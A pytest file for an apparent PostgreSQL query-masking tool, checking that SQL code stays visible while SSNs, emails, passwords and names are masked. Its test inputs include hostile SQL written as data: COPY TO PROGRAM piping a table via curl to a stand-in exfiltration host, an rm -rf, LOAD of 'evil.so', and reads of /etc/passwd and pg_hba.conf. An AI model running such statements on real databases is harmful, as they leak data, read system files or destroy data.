"""Code is shown, data is masked: the examples of issue #17 item 1 (rules/masking/README.md)."""

from __future__ import annotations

import pytest
from pglast import parser as pg

from pgguard.masking import MaskingRules, mask_sql

RULES = MaskingRules.load()
SSN = "123-45-0042"
EMAIL = "marker.person@example.org"


@pytest.mark.parametrize(
    ("sql", "visible", "hidden"),
    [
        (
            "DO $$BEGIN EXECUTE 'DROP TABLE payroll_2024'; END$$",
            ["EXECUTE 'DROP TABLE payroll_2024'"],
            [],
        ),
        (
            f"DO $$BEGIN EXECUTE 'INSERT INTO people (ssn) VALUES (''{SSN}'')'; END$$",
            ["EXECUTE 'INSERT INTO people (ssn) VALUES (''<ssn>'')'"],
            [SSN],
        ),
        (
            "DO $$BEGIN EXECUTE 'SELECT ' || quote_literal('hunter2hunter2') || ' x'; END$$",
            ["EXECUTE 'SELECT ' || quote_literal('<text:14 chars>') || ' x' /*not parsed*/"],
            ["hunter2hunter2"],
        ),
        (
            f"DO $$BEGIN INSERT INTO people (email) VALUES ('{EMAIL}'); END$$",
            ["INSERT INTO people (email) VALUES ('<email>')"],
            [EMAIL],
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN "
            "PERFORM pg_sleep(1); RETURN 1; END $f$",
            ["PERFORM pg_sleep(", "RETURN"],
            [],
        ),
        (
            f"CREATE PROCEDURE p() LANGUAGE sql AS $$ UPDATE people SET email = '{EMAIL}' $$",
            ["UPDATE people SET email = '<email>'"],
            [EMAIL],
        ),
        (
            "COPY (SELECT * FROM people) TO PROGRAM 'gzip -9 > /srv/exports/people.gz'",
            ["PROGRAM 'gzip -9 > /srv/exports/people.gz'"],
            [],
        ),
        (
            "COPY t TO PROGRAM 'curl -T - https://admin:pw-9f8e7d@exfil.example.net/up'",
            ["https://admin:<password>@exfil.example.net/up"],
            ["pw-9f8e7d"],
        ),
        ("COPY people TO '/var/lib/postgresql/out.csv'", ["'/var/lib/postgresql/out.csv'"], []),
        ("COPY people FROM '/tmp/in.csv'", ["'/tmp/in.csv'"], []),
        ("LOAD '/usr/lib/postgresql/evil.so'", ["LOAD '/usr/lib/postgresql/evil.so'"], []),
        (
            "SELECT lo_export(0, '/var/lib/postgresql/data/pg_hba.conf')",
            ["'/var/lib/postgresql/data/pg_hba.conf'"],
            [],
        ),
        ("SELECT lo_import('/etc/passwd')", ["lo_import('/etc/passwd')"], []),
        ("SELECT pg_read_file('/etc/hosts', 0, 100)", ["pg_read_file('/etc/hosts'"], []),
        (
            f"SELECT pg_file_write('/tmp/x.txt', '{SSN}', false)",
            ["pg_file_write('/tmp/x.txt', '<ssn>'"],
            [SSN],
        ),
        (
            "SELECT * FROM dblink('host=db.internal user=admin password=Sup3rS3cret', "
            "'SELECT name FROM people WHERE id = 42') AS t(name text)",
            ["'host=db.internal user=admin password=<password>'", "SELECT name FROM people"],
            ["Sup3rS3cret", "42"],
        ),
        (
            "DO $$BEGIN EXECUTE 'COPY t TO PROGRAM ''rm -rf /tmp/x'''; END$$",
            ["EXECUTE 'COPY t TO PROGRAM ''rm -rf /tmp/x'''"],
            [],
        ),
        (
            f"DO 'BEGIN INSERT INTO people (email) VALUES (''{EMAIL}''); END'",
            ["DO 'BEGIN INSERT INTO people (email) VALUES (''<email>''); END'"],
            [EMAIL],
        ),
        (
            "DO $$BEGIN EXECUTE 'SELECT ' || 'x' || ' mail ann.marker@example.org'; END$$",
            ["/*not parsed*/", "<email>"],
            ["ann.marker@example.org"],
        ),
        (
            "SELECT dblink('SELECT name FROM people WHERE name = ''Ann Marker''')",
            ["SELECT name FROM people WHERE name = "],
            ["Ann Marker"],
        ),
        (
            "SELECT dblink_connect('c1', 'postgresql://admin:Pw-marker9@db.internal:5432/prod')",
            ["'postgresql://admin:<password>@db.internal:5432/prod'"],
            ["Pw-marker9"],
        ),
        (
            "DO $$BEGIN COPY people TO '/srv/out.csv'; IF true THEN COPY people FROM '/srv/in' "
            "WHERE name IS DISTINCT FROM 'Bo Marker'; END IF; END$$",
            ["COPY people TO '/srv/out.csv'", "COPY people FROM '/srv/in'"],
            ["Bo Marker"],
        ),
        ("PREPARE q AS SELECT 1; EXECUTE q('secret-arg')", ["EXECUTE q('<text:"], ["secret-arg"]),
        ("SELECT 'x' IS DISTINCT FROM 'plain-value'", [], ["plain-value"]),
    ],
)
def test_code_visible_data_masked(sql: str, visible: list[str], hidden: list[str]) -> None:
    masked = mask_sql(sql, RULES)
    for fragment in visible:
        assert fragment in masked.text, masked.text
    for value in hidden:
        assert value not in masked.text, masked.text
    pg.parse_sql_json(masked.text)  # still SQL


def test_copy_where_value_is_not_a_file_name() -> None:
    """Only the COPY's own file name is a target; a value compared in its WHERE stays data."""
    masked = mask_sql(
        "COPY people FROM '/tmp/in.csv' WHERE name IS DISTINCT FROM 'Alice Marker'", RULES
    )
    assert "'/tmp/in.csv'" in masked.text
    assert "Alice Marker" not in masked.text


def test_path_argument_position_matters() -> None:
    """The data argument of pg_file_write is data even when it looks like a path."""
    masked = mask_sql("SELECT pg_file_write('/tmp/a', '/home/secret/path', false)", RULES)
    assert "'/tmp/a'" in masked.text
    assert "/home/secret/path" not in masked.text


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT program 'typed-literal-secret'",
        "SELECT execute 'typed-literal-secret'",
        "SELECT load 'typed-literal-secret'",
        "SELECT x FROM t WHERE x = to 'typed-literal-secret'",
        "SELECT lo_import FROM t WHERE lo_import = 'typed-literal-secret'",
    ],
)
def test_code_keywords_out_of_place_do_not_unmask(sql: str) -> None:
    """A literal after PROGRAM/EXECUTE/LOAD outside their statements is a typed literal: data."""
    assert "typed-literal-secret" not in mask_sql(sql, RULES).text
